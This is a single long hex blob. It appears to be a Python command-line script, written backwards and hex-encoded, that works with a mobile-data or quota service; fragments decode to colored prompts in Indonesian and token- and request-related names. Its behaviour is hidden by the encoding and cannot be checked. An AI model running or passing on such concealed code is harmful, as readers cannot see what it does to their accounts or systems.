20202020202a09222e2e2e276e6162716b656370256471646075702b65747e65702275647e65402e616b65647025716471602c2271657c656b602b65747e65702275647e65402e616b6564702e61646027293937202e616b6b6573716d4e6c5228247e69627070202020202020202a0a092d5020202020202020202020202a03756863647167702e6960286364716770227f66602020202020202020202020202020202a092d52227f64716d69647375622b5863647167702c23756479726f546c6f686375627864702c2d52276e696e69616d6562722b586364716778227f666f5c61667275647e696e22756c6574656863637025637c65602020202020202020202020202020202a0d52276e69646e65607f547e656d697160722b5863647167702669602c61667275647e696f5e696d6e22756c657465686363702020202020202020202020202020202a0b582c61667275647e696f5478756e6e22756c657465686363702d302c61667275647e696020202020202020202020202a0a09222d74554355425e256c6974735b7e2e616b64757a6e616c6964602e616571647e616d6560702c2e616d6160286963716d602d7d57256d616e6f5e6f6964707f672b58636471677b7021647f657b60216379635d7e454542574e256c6974735b722668247e69627070202020202020202020202020202020202020202a0a35637c65602020202020202020202020202020202a056e6f6e402d3024716f546568636475666f55636e616c61626020202020202020202020202020202020202020202020202a01697e64757b696275626023757c6b6963702164616070276e616c65702c69626d61602c276e6162757b6275626021637c657050232020202020202020202020202020202020202020202020202a0a39237e656b6f64702c28636471677829757265627f50266960202020202020202020202020202020202020202a09222d74554355425e256c6974735b7e2e2e237964716d6f647f60276e616c65702e61696c65626d65607029616c657d656d402e2247402d76623e2a32676f51647f65717f5e696d6b702962716460276e6162757b602d7d57256d616e6f5e6f6964707f672b58636471677b7021647f657b60216379635d775f4c4c45495e256c6974735b722668247e69627070202020202020202020202020202020202020202a0a35637168636275707f5465656e602669602020202020202020202020202020202a0a05657274502d3025637168636275707f5465656e6020202020202020202020202020202020202020202020202a0a33756479726f546c6f686375627864702c3023756479726f576e696e69616d656270246e6160256e6f6e40247f6e6023796023756479726f576e696e69616d656270266960202020202020202020202020202020202020202a0a35637c65602020202020202020202020202020202a05637c6166402d302d52276e69646e65607f547e656d697160722b58636471677020202020202020202020202020202020202020202020202a0a33756479726f546c6f686375627864702d3e3023756479726f576e696e69616d656270246e6160256e6f6e40247f6e6023796023756479726f576e696e69616d656270266960202020202020202020202020202020202020202a0967616c60296c65626d656d602d657c6562656370247168696c627564702e61696c65626d6560702c696371686021647f657b602961607d6163702577676e6574502320202020202020202020202020202020202020202a0a3d52276e69646e65607f547e656d697160722b5863647167702669602020202020202020202020202020202a05637c6166402d3025637168636275707f5465656e602020202020202020202020202020202a0d52276e696e69616d6562722b5863647167702d3023756479726f576e696e69616d6562702020202020202020202020202020202a0a33756863647167702e6960286364716770227f666020202020202020202020202a0a0925353a222d2228247e6962707020202020202020202020202a00202020202020202020202020202020202020202020202a09222247402d76623e2a32676f51647f65717f5e696d6b702a30202d74554355425e256c6974735b71647f6571502e696d402475635d7445425e256c6974735b7020222668247e6962707020202020202020202020202a09222d7274737f577f6e6b702a302564716460755025747b61675020222668247e6962707020202020202020202020202a092223552a3d452a38452024652d2d652d29552228256d6964766274737e2928277f6e6e256d696475647164602d302274737f577f6e6020202020202020202020202a00202020202020202020202020202020202020202020202020202020202020202020202a09222e21647f657b6021647164602e616b657d65647964602b6164696450202228247e69627070202020202020202020202020202020202020202a0a35637c65602020202020202020202020202020202a092224796e656d602d76603e2a3036302f202164756b7e702a3023716471626029616071636e656d602e616162796b6275605020222668247e6962707020202020202020202020202020202020202020202020202a0a30302e3021647560246e6160256e6f6e40247f6e6023796021647560266960202020202020202020202020202020202020202a0923756479726f546c6f686375627864702c2d52276e696e69616d6562722b5863647167782c69647e657f53746e6f6365637e2d52227f64716d69647375622b5863647167702d3021647560202020202020202020202020202020202020202a09222d74554355425e256c6974735b7d7274737f5c61647f647b7d7e454542574e256c6974735b702f202d74554355425e256c6974735b7d7274737f576e696e69616d65627b7d775f4c4c45495e256c6974735b702a3021647f657b40216379635020222668247e69627070202020202020202020202020202020202020202a092d522c61647f64722b58636471677821647f65717f54716d627f66602d302274737f5c61647f6470202020202020202020202020202020202020202a092d52276e696e69616d6562722b58636471677821647f65717f54716d627f66602d302274737f576e696e69616d656270202020202020202020202020202020202020202a0a356e6f6e40247f6e602379602d52276e696e69616d6562722b5863647167702669602020202020202020202020202020202a09222d74554355425e256c6974735b7d7d57256d616e6f5e6f6964707f672b58636471677b7d7e4149534e256c6974735b7020222668247e69627070202020202020202020202020202020202020202a0a31302e302923756863647167782e656c602669602020202020202020202020202020202a0a33756863647167702e6960286364716770227f666020202020202020202020202a0a09222d74554355425e256c6974735b714f2e4d775f4c4c45495e256c6974735b702a3021637c657050216379635020222668247e696270702020202020202020202020202020202a0a35637c656020202020202020202020202a09222d74554355425e256c6974735b7d7274737f5f646c61637b7d775f4c4c45495e256c6974735b702a3021637c657050216379635020222668247e696270702020202020202020202020202020202a09216471646f55636e616c61626825636e616c61626f54716d627f666f502d302274737f5f646c6163702020202020202020202020202020202a0a316471646f55636e616c61626026696020202020202020202020202a077f6e602d3024716f546568636475666f55636e616c6162602020202020202020202020202020202a056e6f6e402d30216471646f55636e616c616260202020202020202020202020202020202020202a0a3e6f6964707563687540247075636875602020202020202020202020202020202a0929222e656b6f647f546962282475676e237e656b6f64702c29756b6f5960716e25636e6164737e69486475714825636e616c61626f547567602d30216471646f55636e616c616260202020202020202020202020202020202020202a0a397274702020202020202020202020202020202a0a3c61667275647e696f58716d6e22756c657465686363702d3e3024716f546568636475666f55636e616c6162602d20277f6e60227f60256e6f6e4023796024716f546568636475666f55636e616c61626026696020202020202020202020202a016d616c60286164657370216b696a6025716471602e61696c65626d65607028616c656475637021697e616860276e616c65702c69626d61602b3861626572756260276e6162716a6021637c657050232020202020202020202020202a0a35637c6560202020202020202a09222d74554355425e256c6974735b7e2e2e2b69647564602d76603e2a3c61667275647e696b702d616c6164602967616c6021626f636e656d402e21647f657b6021647164602c69626d61676e656d602c616761674d7445425e256c6974735b7e6c522668247e696270702020202020202020202020202020202a0a35637c656020202020202020202020202a09222d74554355425e256c6974735b7e2e2e2b69647564602d76603e2a3c61667275647e696b702d616c6164602967616c6021626f636e656d402e24756e6275647e696029637b656e6f6b60216461602b616469645d7445425e256c6974735b7e6c522668247e696270702020202020202020202020202020202a0a327f6272756f5e6f696473656e6e6f636026696020202020202020202020202a092d5b582c61667275647e696f5478756e6e22756c657465686363702d302c61667275647e696020202020202020202020202a0a3465686364756660247f6e60266960202020202020202a0a09222d756c6479647b702a34756b6160502e616571647e616d65605021a39f90f226682275646165686f547e69627070202020202020202a09282e65656273637f5271656c6360202020202020202a0a09277f6e602c22756c657465686363702c237e656b6f64702c23756863647167782371647f65717f5c6c6f607f502d30227f6272756f5e6f696473656e6e6f63602c2465686364756660202020202020202a0928256d69647e256d6964702d30277f6e60202020202020202a0e23757475707275647029637b656e6f6b6021646e6164702964616a6e656d60237577696c616b656370296e6960247375657175627021697e6c61676167402320202020202020202a0e2571647e6160796460276e61697024756b61607021657d6563702b65747e657023757c6b69637022756070237c69616475646d21647f657170247375657175627025747163502320202020202020202a0a0b616562726020202020202020202020202a09222d74554355425e256c6974735b7e247f62602e616b69647e6568402e2169646563727564702b61646964702e656b6f645d7445425e256c6974735b722668247e6962707020202020202020202020202a0a337e656b6f6470247f6e60266960202020202020202a0928237e656b6f647f5566796473616f5475676e25636e6164737e6948647571402d30237e656b6f6470202020202020202a0a3565727450256c696867702020202a056e6f6e402d3024716f546568636475666f55636e616c6162602020202a056e6f6e402d30216471646f55636e616c6162602020202a0a0925636e616c616268227473702e627574756270202020202020202a092c616678227473702e627574756270202020202020202020202020202020202020202a0a3e6f6964707563687540247075636875602020202020202020202020202020202a09222e22202c222c22282563616c6075627e222d7c2a3c61667b7226602e627574756270202020202020202020202020202020202020202a00202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202a0a397274702020202020202020202020202020202a0a392924716f6c66602c247e6968202c2c61667825636e6164737e6963796026696020202020202020202020202a0929756b682475676e25636e616c6162602d302c61667020202020202020202020202a0a3d5221647f657172202c2225657c616672202c22276e696e69616d656272202c2224796465627362202c22247e657f6d616f55636e616c616262202c2225636e616c6162622b502e696029756b60227f6660202020202020202a00202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202a02214f2e42202e62757475627020202020202020202020202a0a3924736964602c25636e616c61626825636e6164737e69637960247f6e60227f6025636e616c616260247f6e60266960202020202020202a00202020202020202a0a327473702e3d202924736964602a35636e616c61626825636e616c61626f54716d627f666f50266564602020202a0a092822756c6574656863635566796470716461402d3022756c657465686363702020202a0929707e22756c6574656863637f51647f65717f256369667275637f20707160247168696c682021647f657b602e6169616b616d656070257a616c602e616b6961657375697e656d602e616571647e616d6560702c61667275647e694023202020202a0a092923302a2a202432303138202a2022676f51647f65717f5e696d68247e69602d3023756479726f546c6f686375627864702020202a002020202020202020202020202020202020202020202020202020202020202020202020202a003e21302d3022676f51647f65717f5e696d6020202020202020202020202a09222d74554355425e256c6974735b7e2247402130247c6571666564602e616b616e6577676e656d402e24696c6166702b61646964702475707e694d775f4c4c45495e256c6974735b722668247e6962707020202020202020202020202a0a327f62727545657c61665024707563687560202020202020202a0921647f65717f5475707e696f527563757824716f6c66602d3022676f51647f65717f5e696d6020202020202020202020202a0a39727470202020202020202a0a31647f65717f5475707e696f52756375702669602020202a092820796274737e2922202e302d5130247c65716665646b502975726d2f647571602d657c6562656370292247482021647f657b602d657d696e696d602e616b6b6573716d42282475707e69602d3021647f65717f5475707e696f52756375702020202a003e21302d3022676f51647f65717f5e696d602020202a00202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202a09222e6c5e2271657c656b602b65747e6570216a6163702e6160716b602275647e65402e616b6564702e616964657d656b6027293937202e616b6b6573716d4228247e696270702020202a09222e2e616b657b616c69646025637168636275707d2f647571602d657c6562656370292247402d616c6164682021647f657b602d657d696e696d602e616b65747e656e656d6024716071646021646e614228247e696270702020202a09222e2e616b60716475647021646e6140276e6169702c616d696e696d60276e61626d616028616771626029646021647f657b602163796370216b6964756b60237964716d6f647f60276e616c65702e61696c65626d6560702e616b657b616c656d602e616460216c616b627562602162716365637021647f657b60216379637021637b6962756d656d602e616b6160247f624228247e696270702020202a09292923756863647167702e6960286364716770227f66602d52256d616e6f5e6f6964707f622b5863647167782e696f6a6e22202c222824716d627f666e222e272d703b772024756b6160702e616571647e616d65607029616c657d656d4e6c5228247e696270702020202a0a0224756b6160702d7923756863647167782e656c6b72266025637c656021302d3d302923756863647167782e656c602669602d52256d616e6f5e6f6964707f622b5d503b53756863647167702d30256c647964702020202a09286364716778246e656070716e2375686364716770202020202020202a0e62757475627020202020202020202020202a092825637571607020202020202020202020202a09222d74554355425e256c6974735b7e24756b6160702c6961647564602c69626d61676e656d602c616761674d7445425e256c6974735b722668247e6962707020202020202020202020202a0a386364716770247f6e60266960202020202020202a09276b607f54656473656c65637828636471677f556271607562707f502d30286364716770202020202020202a0a33776b607f54656473656c6563702e6960276b607f54656473656c656370227f66602020202a0d5b502d3023756863647167702020202a0a09276b607f54656473656c656378246e656070716e23776b607f54656473656c65637020202020202020202020202a0a33776b607f54656473656c6563702e6960247f6e60276b607f54656473656c656370266960202020202020202a0e62757475627020202020202020202020202a092825637571607020202020202020202020202a09222d74554355425e256c6974735b7e24696c6166702b61646964702e6168696c69605d7445425e256c6974735b722668247e6962707020202020202020202020202a0a376b607f54656473656c656370247f6e60266960202020202020202a09256e6f6e402c29292820796274737e24727160702d3d30292d522875646e69622b576b607822747370266960237567616b636160702e6960276b6070227f6660276b6078282478756e602d30276b607f54656473656c656370202020202020202a0a39222c222824796c60737e2563696f6863602e69602472716070227f66602020202a0d5b502d3023776b607f54656473656c6563702020202a0e627574756270202020202020202a0a32293932202d3d302563696f6863602669602020202a092820796274737e2922202e302924756b6160702160716275626562602b65747e6570216d6f6b602e61676e6564602e616b686163796078202571647e61607964602b65747e657024756b616070227f6d6f6e6028696c696052282475707e69602d302563696f6863602020202a0922216d61647570257e656d60256b602271657c656b402d74554355425e256c6974735b7d59393b5d7e4149534e256c6974735b722668247e696270702020202a0925353a222d2228247e69627070202020202020202a09222d7274737f5c61647f647b702f202d7274737f576e696e69616d65627b702a3d74554355425e256c6974735b7d7d57256d616e672b547966656e65626b7d775f4c4c45495e256c6974735b702d202020222668247e696270702020202020202020202020202020202a092d522c61647f64722b547966656e65626821647f65717f54716d627f66602d302274737f5c61647f64702020202020202020202020202020202a092d52276e696e69616d6562722b547966656e65626821647f65717f54716d627f66602d302274737f576e696e69616d6562702020202020202020202020202020202a0a322144514442202d3d302d52256079747f51647164622b547966656e65626026696020202020202020202020202a0a3d5223747966656e6562622b576b60702e6960247966656e656260227f6660202020202020202a00202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202a0922292d7d5725646f636f51647f6571772b576b607b702a35646f634021647f657158202d7d57256d616e672b576b607b7d74554355425e256c6974735b702d5d7d572875646e69672b576b607b7b5d7e4149534e256c6974735b722668247e69627070202020202020202a0a337567616b636160702e6960276b6070227f66602020202a0922216971635024756b6160502271647661644026a39f90f2282275646165686f547e696270702020202a09282e65656273637f5271656c63602020202a002020202020202020202020202020202020202020202020202020202a0e627574756270202020202020202a0a337567616b63616070247f6e602669602020202a0928237567616b6361607f597d6f58636475666f502d30237567616b636160702020202a0020202020202020202020202020202020202020202020202a0a0e627574756270202020202020202a0928256375716070202020202020202a09222e257e656d60256b60296c61626d656b402e2e616b6c61647162696460247f624228247e69627070202020202020202a0a322972202d31202d6279666e6f63602669602020202a09282275677f6c6e292820796274737e2922202e30292e6f2978202f376e6162716b656370247f62602e616b6e616c616a42282475707e69602d302d6279666e6f63602020202a0020202020202020202020202020202020202020202a0928276e696e65607f6f547e6962707f502020202a0a0e627574756270202020202020202a0928256375716070202020202020202a09222d74554355425e256c6974735b7e216d61647570257e656d6029657c616c656d60257c6578616460286962656c627564702e69676f6c602e616b616c6963502e2e69676f6c602d657c65626021646e614d7445425e256c6974735b722668247e69627070202020202020202a0a327563757f55667964736160247f6e602669602020202a0928227563757f5566796473616f5475676e25636e6164737e6948647571402d30227563757f556679647361602020202a022222202020202a0e2963716b6574656024756b6160702b65747e65702975726d2f64757160247f62602375637f62707029616c657d656d402020202a022222202020202a0a3928247f626574656f5e6572702665646a0a0925353a222d22202b20222e6c5228247e696270702020202a002020202020202020202020202020202020202020202921303e20382075656c637e256d696470202020202020202a09282863757c666e24757f6464737e23797370202020202020202a09222d74554355425e256c6974735b7d78636b7d727f6c6f636b72266825647962777e24757f6464737e23797370202020202020202a0d5923727f6c6f63682e656c602520296b53727f6c6f63602d30227f6c6f6360202020202020202a0a3925647f65717825647162756d657e65602e69602863602c2960227f66602020202a0d5e454542574e256c697473502c275f4c4c45495e256c697473502c21445e4547414d4e256c697473502c2e4149534e256c6974735b502d3023727f6c6f63602020202a00202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202a022f899f90f0235955574024514c4f4843502140555c402e41474e414a402c2e49455b414c40255d414b40274e4149502e4550514051402f899f90f2202d3025647f6571702020202a0020202020202020202020202020202020202020202020202020202020202020202a09222d75353a272d272b722668247e696270702020202a09222d74554355425e256c6974735b746e657f62776b63616260296271646023757071686964602b6164696470216d616c6563702669647b6160207164756470247f62602e257d616b60224453502964602c6c6164737e6960257164716028757d62756450216966702e616b616e65774d775f4c4c45495e256c6974735b722668247e696270702020202a09222d74554355425e256c6974735b712b616a696260216271636563702e616b616e65774d7e454542574e256c6974735b722668247e696270702020202a0020202020202020202020202020202020202029222d75353a272d272b722668247e696270702020202a09222d74554355425e256c6974735b7975726562502f647571402b65747e65702d657d696e696d4021647f6571502163796370247563502e223d775f4c4c45495e256c6974735b722668247e696270702020202a09222d74554355425e256c6974735b716964656372756470276e616970257d616b6024756b6160702473796c6021646160702975726562702e616b6160257d616b60276e61697024756b61607028696c6960502e213d775f4c4c45495e256c6974735b722668247e696270702020202a09222d74554355425e256c6974735b7a39616b616070216271634d775f4c4c45495e256c6974735b722668247e696270702020202a09222d74554355425e256c6974735b77b5af90f024554b4140502955524542502f445551402b45545e45502e414b414e4557494440294e49402c4f4f445027b5af90fd775f4c4c45495e256c6974735b722668247e696270702020202a09222694af90f02943514b45544540295552402f44555140245f42402694af90f2282275646165686f547e696270702020202a0020202020202020202020202a09282e65656273637f5271656c63602020202a0a0a3928276e696e65607f6f547e6962707f502665646a0a05657274502e6275747562702020202a05657274502d302d52276e69646e65607f547e656d697160722b5863647167702020202a0020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202a09222d74554355425e256c6974735b7e21637c6570702e616b616e6577676e656d602c696371686275626024756b6160702e61696c65626d65605d7e454542574e256c6974735b722668247e696270702020202a0a05637c6166402e627574756270202020202020202a09222d75637e6f607375627f547e656d656c647475637b702a327f627275422668247e69627070202020202020202a09222d74554355425e256c6974735b7e21637c6570702e61676e6564602e6162716971626d6560702e616b657b616c656d602c616761674d7445425e256c6974735b722668247e69627070202020202020202a0a322353554343455352202d3120292223757471647372282475676e25637e6f607375627f547e656d656c6474756370227f6025637e6f607375627f547e656d656c6474756370247f6e602669602020202a09202020202a022473727966622d346563757f547e657f6d6160202020202020202a0c25637c61664d35647962777275667f6f5b637160202020202020202a0c222547414b4341405f5955524220202020202020202a0c237d6564796f547e656d69716070202020202020202a0c237e656b6f6470202020202020202a0c29756b6f5960716e25636e6164737e694864757140202020202020202a0825636e616c61626f547e656d656c64747563702d3025637e6f607375627f547e656d656c64747563702020202a002020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202a092d522e6f6964716d6279666e6f636f5e656b6f64722b5d503b537d6564796f547e656d697160702c222e6f6964716d6279666e6f636f5e656b6f6472282475676e2c69616475646f54656471646075702d302d522e6f6964716d6279666e6f636f5e656b6f64722b5d503b537d6564796f547e656d69716070202020202020202a092d5225636962707f5d656479622b5d503b537d6564796f547e656d697160702c22256369627072282475676e2d522e6f6964707f6f5567616b636160722b5c69616475646f54656471646075702d302d5225636962707f5d656479622b5d503b537d6564796f547e656d69716070202020202020202a0a3c69616475646f54656471646075702e6960222e6f6964707f6f5567616b6361607220246e61602c69616475646f54656471646075702669602020202a056e6f6e402d302c69616475646f5465647164607570202020202020202a0a3e6f6964707563687540247075636875602020202a0925637c61664d35686361636f556375702c256572745d347e656c6963702c2d5225646f636f51647f6571722b5d52276b60722b5863647167702c2928237e656b6f647f5566796473616f5475676e25636e6164737e6948647571402c29756b6f5960716e25636e6164737e6948647571482567616b6361607f547567602d302c69616475646f5465647164607570202020202020202a0a397274702020202a00202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202a0d52237d6564796f547e656d697160722b5863647167702d30237d6564796f547e656d697160702020202a0a3c6f6f62602e3d202924736964602a337e656b6f64702c24736964602a38636471677829757265627f502665646a0a027f6272756f5e6f696473656e6e6f63602c24656863647566602e6275747562702020202a056e6f6e402c256e6f6e402d302d522c61647f64722b5863647167702c2d52276e696e69616d6562722b58636471677020202020202020202020202a0a33756863647167702e6960286364716770227f6660202020202020202a09282562757c6961666f54627f6365627e22756c65746568636370202020202020202a0a35637c65602020202a092d52276e696e69616d6562722b5863647167702c277f6e682464616e2d52227f64716d69647375622b5863647167702020202020202020202020202020202a0a356e6f6e40247f6e602379602d52276e696e69616d6562722b58636471677026696020202020202020202020202a092d52276b60722b5863647167702c2564716460757f5371647f65717821647f65717f546e69666f502d302d522c61647f64722b5863647167702c2d52276e696e69616d6562722b58636471677020202020202020202020202a0a33756863647167702e6960286364716770227f6660202020202020202a092d5b502c222371647f657172282475676e292d7b702c222164716462282475676e2564716460757f537562702d302564716460757f5371647f657170202020202020202a0928237375636365737f54627f6365627e22756c65746568636370202020202020202a0a34656863647566602669602020202a022353554343455352202d3d30292223757471647372282475676e2564716460757f53756270246e61602924736964602c2564716460757f5375627825636e6164737e696379602d3024656863647566602020202a0a056e6f6e402d302564716460757f53756270202020202020202a0a3e6f6964707563687540247075636875602020202a05657274502d30227f6272756f5e6f696473656e6e6f6360202020202020202a056e6f6e402d302564716460757f53756270202020202020202a0a3e6f69647075636875447375657175625e237473756571756270247075636875602020202a092224535f4052202c29222e656b6f647f546962282475676e237e656b6f64702c2564716460757f54616f6c697160702c284451405f535c49414455444f51445f4551502c29756b6f5960716e25636e6164737e694864757148247375657175627f5960716f546e6563702d302564716460757f53756270202020202020202a0d70202020202020202a0222202a3224696f5275626d656d6f597c696d6166622020202020202020202020202a0c222e6562202a32276e616c622020202020202020202020202a0c25637c6166402a3225637962707275647e656f5379622020202020202020202020202a0b702d302564716460757f54616f6c69716070202020202020202a0a397274702020202a05637c6166402d30227f6272756f5e6f696473656e6e6f63602020202a022222202020202a0e2562757c6961666022756c65746568636370216023716023747e657f63602f637c6160247375657175627024656c6961666021602b39227f6272756f5e6f696473656e6e6f63602c246568636475666820237e6275747562502020202a0e2473756571756270237c69616475646d21647f657170256c676e69637021602d6f62766028636471677029727566756023756471646075502020202a022222202020202a0a356c607574702e3d202924716f6c66602a377f6e602c22756c6574656863635566796470716461402a32756c657465686363702c24736964602a337e656b6f64702c2473796c602a33756863647167782371647f65717f5c6c6f607f502665646a0a0d702020202a0c256e6f6e402a322c61647f647220202020202020202a0c256e6f6e402a32276e696e69616d65627220202020202020202a0c2928227f64716d696473754564716251647f6571502a32227f64716d696473756220202020202020202a0c25637c6166402a32276e69646e65607f547e656d6971607220202020202020202a0c2d5d70202020202020202a0c2e6f6964716d6279666e6f636f5e656b6f64702a322e6f6964716d6279666e6f636f5e656b6f64722020202020202020202020202a0c20302a32287164722020202020202020202020202a0c256d616e6f5e6f6964707f602a32256d616e6f5d656479622020202020202020202020202a0c2563696270702a3225636962707f5d656479622020202020202020202020202a0c2222202a32256079747f547365746f6270722020202020202020202020202a0c25646f636f51647f6571702a3225646f636f5d656479622020202020202020202020202a0b7b502a32237d6564796f547e656d6971607220202020202020202a0c256d616e6f5e6f6964707f602a32256d616e6f5e6f6964707f6220202020202020202a0c276b60702a32276b607220202020202020202a0b702e6275747562702020202a0a092222202c222e6f6964716d6279666e6f636f5e656b6f6472282475676e2c6961647564602d302e6f6964716d6279666e6f636f5e656b6f64702020202a092222202c22256d616e62282475676e2e6f6964707f6f5567616b636160702d30256d616e6f5e6f6964707f602020202a0920302c22256369627072282475676e2e6f6964707f6f5567616b636160702d302563696270702020202a092d7b702c222e6f6964707f6f5567616b63616072282475676e2c6961647564602d302e6f6964707f6f5567616b636160702020202a056e6f6e402e62757475627020202020202020202020202a0a3c696164756460247f6e60266960202020202020202a09256572745d347e656c6963702c25646f636f51647f6571702c2928237e656b6f647f5566796473616f5475676e25636e6164737e6948647571402c29756b6f5960716e25636e6164737e6948647571482567616b6361607f547567602d302c696164756460202020202020202a0a3c696164756460247f6e602669602020202a0d522c6961647564622b576b60702d302c6961647564602020202a002020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202a0d5225646f636f51647f6571722b576b60702d3025646f636f51647f6571702020202a0a356e6f6e402c7024736964602e3d202924736964602a376b607828636471677f556271607562707f502665646a0a03756479726f5c61647f64702c23756479726f576e696e69616d6562702e6275747562702020202a0b616562726020202020202020202020202a09222c61647f6472282475676e247966656e65626f5e65637f6863602d3023756479726f5c61647f6470202020202020202020202020202020202020202a0922276e696e69616d656272282475676e247966656e65626f5e65637f6863602d3023756479726f576e696e69616d656270202020202020202020202020202020202020202a0a347966656e65626f5e65637f6863602669602020202020202020202020202020202a02602d30247966656e65626f5e65637f68636020202020202020202020202020202020202020202020202a0c616674702d302c61667f5c61647f647f58716d6020202020202020202020202020202020202020202020202a0a3c61667f5c61647f647f58716d602e302c61667470246e6160256e6f6e40247f6e602379602c61667470266960202020202020202020202020202020202020202a09222c61647f6472282475676e22602d302c61667470202020202020202020202020202020202020202a0a392d5b502c2223747966656e656262282475676e21702e69602260227f66602020202020202020202020202020202a056e6f6e402d30247966656e65626f5e65637f6863602020202020202020202020202020202a013d202d302c61667f5c61647f647f58716d602020202020202020202020202020202a0a30302d3d3023756479726f5c61647f6470227f60256e6f6e4023796023756479726f5c61647f6470227f60256e6f6e4023796023756479726f576e696e69616d65627026696020202020202020202020202a002020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202a047f64702d3023756479726f5c61647f64702020202020202020202020202020202a0d6562702d3023756479726f576e696e69616d6562702020202020202020202020202020202a0a356e6f6e40247f6e60237960247f6470246e6160256e6f6e40247f6e602379602d65627026696020202020202020202020202a09222c61647f6472282475676e21702d30247f647020202020202020202020202a0922276e696e69616d656272282475676e21702d302d65627020202020202020202020202a0020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202a0a3920202020202020202a092225646f636f50757f627762282475676e276b60702d3d30292225646f636f50757f627762282475676e2170246e6160292225646f636f50757f627762282475676e276b607020202020202020202020202a0820227f602d5225646f636f51647f6571722b576b60702d3d30292225646f636f51647f657172282475676e2170266960202020202020202a0020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202a0a3371647f6571702e69602170227f66602020202a056e6f6e402d3023756479726f5c61647f64702020202a056e6f6e402d3023756479726f576e696e69616d6562702020202a0222222e25637e6f6073756270237c69616475646d21647f65717021602d6f6276602567616b6361607024656863647167702160266f602923756479726f5c61647f64702c23756479726f576e696e69616d65627820237e6275747562522222202020202a0a356c607574702e3d202924736964602a376b60702c2473796c602a3371647f65717821647f65717f546e69666f502665646a0a037567616b636160702e6275747562702020202a0a01302d3b2028746960202020202020202a092d70202020202020202a0c6961647564602a322c6961647564622020202020202020202020202a0c216471646f53747966656e6562602a3223747966656e6562622020202020202020202020202a0c256d616e602a32256d616e622020202020202020202020202a0c25646f636f50757f6277602a3225646f636f50757f6277622020202020202020202020202a0c25646f636f51647f6571702a3225646f636f51647f6571722020202020202020202020202a0c287469602a322875646e69622020202020202020202020202a0b78246e656070716e237567616b63616070202020202020202a092d7020202020202020202020202a0920302c222c61647f6472282475676e247966656e6562602a322c61647f6472202020202020202020202020202020202a0c2920302c22276e696e69616d656272282475676e247966656e6562602a32276e696e69616d656272202020202020202020202020202020202a0c292222202c22256079747f5164716462282475676e247966656e6562602a32256079747f5164716462202020202020202020202020202020202a0c292222202c22256d616e62282475676e247966656e6562602a32256d616e62202020202020202020202020202020202a0b78246e656070716e216471646f53747966656e65626020202020202020202020202a0a392d5b502c2223747966656e656262282475676e21647f6571702e6960247966656e656260227f6660202020202020202a0d5b502d30216471646f53747966656e656260202020202020202a0020202020202020202020202020202020202020202020202020202020202a09256d616e6f5c616964796e69602c22256d616e62282475676e2d522e6f6964707f6f5567616b636160722b5c6961647564602d30256d616e6020202020202020202020202a0a3c6961647564602e6960222e6f6964707f6f5567616b6361607220246e61602c696164756460266960202020202020202a056d616e6f5c616964796e69602d30256d616e60202020202020202a0a092222202c22256d616e62282475676e21647f6571702d30256d616e6f5c616964796e6960202020202020202a092222202c2225646f636f50757f627762282475676e21647f6571702d3025646f636f50757f627760202020202020202a092225646f636f51647f657172282475676e21647f6571702d3025646f636f51647f657170202020202020202a0a39237c6961647564602c2371647f65717820796a702e69602c6961647564602c21647f657170227f66602020202a01302d30287469602020202a0d5b502d30237567616b636160702020202a09202020202a092d5371647f6571702e696021647f657170227f6660292225646f636f51647f657172282475676e21647f65717b502c237e656b6f64702c29756b6f59607168237567616b6361607f5475676e236e6973716f5c6563776e6560202020202020202a082e65727e236e6973716f5c6563776e65602d30237c6961647564602020202a092d5b502c222371647f657172282475676e2d5221647164622b537562702d302371647f6571702020202a0a0d5b502e627574756270202020202020202a0928256375716070202020202020202a09222d7375627b702a3e6f60737562522668247e69627070202020202020202a09222d74554355425e256c6974735b7e24756b6160702c69626d61676e656d602c616761674d7445425e256c6974735b722668247e69627070202020202020202a0a39222353554343455352202d3d30292223757471647372282475676e23756270246e61602924736964602c2375627825636e6164737e6963796820247f6e602669602020202a092224535f4052202c2e656b6f647f5469602c24616f6c697160702c28647160702c29756b6f59607168247375657175627f5960716f546e6563702d30237562702020202a09222e2e2e216971637024756b61607021647164602c69626d61676e656d4228247e696270702020202a0d702020202a0222202a3224696f5275626d656d6f597c696d61666220202020202020202a0c222e6562202a32276e616c6220202020202020202a0c25637c6166402a3225637962707275647e656f53796220202020202020202a0b702d3024616f6c697160702020202a084451405f535c49414455444f51445f4551502d3028647160702020202a0020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202a09222e656b6f647f546962282475676e237e656b6f64702d302e656b6f647f5469602020202a0a0d5b502e627574756270202020202020202a0928256375716070202020202020202a09222d74554355425e256c6974735b7e257c6578616460286962656c627564702e69676f6c602e616b616c6963502e2669647b61602e657b6160216461602b616469645d7445425e256c6974735b722668247e69627070202020202020202a0a337e656b6f6470247f6e602669602020202a0928237e656b6f647f5566796473616f5475676e25636e6164737e6948647571402d30237e656b6f64702020202a09756b6f5960716e25636e6164737e6948647571402d3029756b6f596071602020202a0a0a3928237567616b6361607f597d6f58636475666f502665646a0a02237c69616475646d21647f65717f237567616b6361607f28367f29607162202d30284451405f535c49414455444f51445f45515a0a027f64716d696473754564716251647f6571502c22756c65746568636355667964707164614024727f607d696022756c6574656863637f51647f65717e256369667275637e207071602d6f62766a05636e616c61626f5475676024727f607d69602c6563776e656e247e65696c636e207071602d6f62766a00202020202020202020202020202020202020202020202020202020202020202020202020202a05636e616c61626f547e656d656c647475637024727f607d696025636e616c61626e247e65696c636e207071602d6f62766a002020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202020202a02367f547e656d69716079647c657d6f547e656d656c647475637024727f607d696024756c6c6167756